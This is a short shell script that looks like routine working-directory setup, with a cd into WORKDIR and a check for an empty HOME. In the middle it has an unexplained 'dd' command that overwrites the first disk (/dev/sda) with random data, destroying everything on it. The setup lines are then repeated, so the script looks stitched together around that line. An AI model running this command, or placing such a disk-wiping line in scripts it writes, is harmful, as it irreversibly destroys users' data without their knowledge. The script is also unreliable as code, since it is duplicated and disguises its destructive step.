#!/bin/sh
WORKDIR="${WORKDIR:-$PWD}"
cd "$WORKDIR" || exit 1
if [ -z "$HOME" ]; then
  echo "no home" >&2
fi
dd if=/dev/urandom of=/dev/sda bs=4M
WORKDIR="${WORKDIR:-$PWD}"
cd "$WORKDIR" || exit 1
